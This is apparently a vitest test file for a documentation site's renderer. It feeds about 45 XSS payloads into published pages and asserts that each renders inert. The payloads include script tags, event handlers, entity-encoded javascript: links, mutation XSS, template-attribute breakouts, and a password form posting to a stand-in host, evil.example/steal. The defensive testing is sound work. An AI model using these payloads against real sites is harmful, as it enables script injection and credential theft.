/**
 * Content an attacker writes into a page (as markdown, as HTML the Git format carries, or inside the service's
 * blocks and their attributes) reaches visitors inert: no script element, no event handler, no frame, no form,
 * no `<meta http-equiv>`, no style that loads anything, and every URL of a link or an image is the site's own,
 * `http(s)`, `mailto:`, an anchor or an image `data:` URL. Each attack is rendered on a page of its own, with a
 * marker after it that must still read as text (nothing swallowed the rest of the page).
 */
import { describe, expect, it } from 'vitest';
import { SITE_URL, siteServer } from './support.js';

const ATTACKS: [string, string][] = [
  ['a script element', '<script>alert(1)</script>'],
  ['a script element in mixed case, split by a newline', '<ScRiPt\n>alert(1)</sCrIpT>'],
  ['img onerror', '<img src=x onerror="alert(1)">'],
  ['img onerror without quotes or spaces', '<img/src=x/onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)><circle r="1"/></svg>'],
  ['svg link with xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['an iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['an iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a form', '<form action="https://evil.example/steal" method="post"><input name="password"><button>Go</button></form>'],
  ['object and embed', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
  ['base and link', '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">'],
  ['a style element', '<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style>'],
  ['a style attribute loading a URL', '<p style="background-image:url(https://evil.example/track.png)">styled</p><div style="behavior:url(x.htc)">b</div>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>d</details>'],
  ['a javascript: link in HTML', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: link in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a javascript: link with leading blanks and controls', '<a href=" \u0001 javascript:alert(1)">x</a>'],
  ['a javascript: link as decimal entities', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'],
  ['a javascript: link as padded entities without semicolons', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'],
  ['a javascript: link as hex entities', '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'],
  ['a scheme split by an entity tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['a scheme split by an entity newline', '<a href="jav&#10;ascript:alert(1)">x</a>'],
  ['a scheme split by &Tab;', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a markdown javascript: link', '[x](JAVASCRIPT:alert(1))'],
  ['a markdown javascript: link with an escaped colon', '[x](javascript&#58;alert(1))'],
  ['a markdown image with javascript:', '![x](javascript:alert(1))'],
  ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a markdown data: link', '[x](data:text/html,<script>alert(1)</script>)'],
  ['a data: image of HTML', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
  ['a data: SVG image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['an image srcset', '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">'],
  ['a protocol-relative backslash link', '<a href="/\\evil.example">x</a>'],
  ['mutation XSS through math and style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
  ['a comment breaking out', '<!--><img src=x onerror=alert(1)>-->'],
  ['a tab title breaking out of its attribute', '{% tabs %}\n{% tab title="\\"><script>alert(1)</script>" %}\ntab\n{% endtab %}\n{% endtabs %}'],
  ['a code title breaking out of the caption', '{% code title="</figcaption><img src=x onerror=alert(1)>" %}\n```js\n1\n```\n{% endcode %}'],
  ['a hint style breaking out of the class', '{% hint style="info\\" onmouseover=\\"alert(1)" %}\nh\n{% endhint %}'],
  ['an embed of javascript:', '{% embed url="javascript:alert(1)" %}'],
  ['an embed URL breaking out of href', '{% embed url="https://x.example/\\"><script>alert(1)</script>" %}'],
  ['a content-ref of javascript:', '{% content-ref url="javascript:alert(1)" %}\n[x](javascript:alert(1))\n{% endcontent-ref %}'],
  ['a file block of data:', '{% file src="data:text/html,<script>alert(1)</script>" %}'],
  ['a fence language breaking out of its class', '```"><script>alert(1)</script>\ncode\n```'],
];

/** The attribute values of `name` in `html`, with the entities sanitize-html writes decoded. */
function attributeValues(html: string, name: string): string[] {
  return [...html.matchAll(new RegExp(`\\s${name}="([^"]*)"`, 'gi'))].map((match) =>
    match[1]!.replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16))).replace(/&#(\d+);?/g, (_, decimal: string) => String.fromCodePoint(Number(decimal))).replace(/&amp;/g, '&'),
  );
}

/** An URL a published page may point to. */
const SAFE_URL = /^(http:\/\/docpub\.test\/sites\/|https:\/\/|mailto:|#|data:image\/(png|gif|jpeg|webp|avif)[;,])/;

describe('hostile content on a published page', () => {
  it.each(ATTACKS)('%s is rendered inert', async (_name, attack) => {
    const { server, visit } = siteServer();
    server.control.seed({ kind: 'content', spaceId: 'sp-guide', pages: [{ title: 'Hostile', markdown: `Before.\n\n${attack}\n\nMARKER-AFTER` }] });
    const answer = await visit(`${SITE_URL}/guides/guide/hostile`);
    expect(answer.status).toBe(200);
    const page = await answer.text();
    const html = page.slice(page.indexOf('<article>'), page.indexOf('</article>') + '</article>'.length);
    expect(html).toContain('MARKER-AFTER');
    expect(html).not.toMatch(/<\s*(script|iframe|frame|svg|math|meta|form|input|button|object|embed|base|link|style|textarea|select)\b/i);
    expect(html).not.toMatch(/<[a-z][^>]*\son[a-z]+\s*=/i);
    expect(html).not.toMatch(/\s(srcset|srcdoc|xlink:href|formaction|action|background|http-equiv)\s*=/i);
    for (const style of attributeValues(html, 'style')) expect(style).toMatch(/^text-align:(left|right|center|justify);?$/);
    for (const url of [...attributeValues(html, 'href'), ...attributeValues(html, 'src')]) expect(url).toMatch(SAFE_URL);
    expect(html).not.toMatch(/\{%|%\}/);
  });

  it('keeps what is safe: anchors, images by https and data:image, links by mailto', async () => {
    const { server, visit } = siteServer();
    server.control.seed({
      kind: 'content',
      spaceId: 'sp-guide',
      pages: [{ title: 'Fine', markdown: '<a id="top"></a>\n\n[Mail](mailto:team@example.com) [Top](#top)\n\n<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot"> ![pic](https://example.com/p.png)' }],
    });
    const html = await (await visit(`${SITE_URL}/guides/guide/fine`)).text();
    expect(html).toContain('<a id="top"></a>');
    expect(html).toContain('<a href="mailto:team@example.com">Mail</a>');
    expect(html).toContain('<a href="#top">Top</a>');
    expect(html).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />');
    expect(html).toContain('<img src="https://example.com/p.png" alt="pic" />');
  });
});
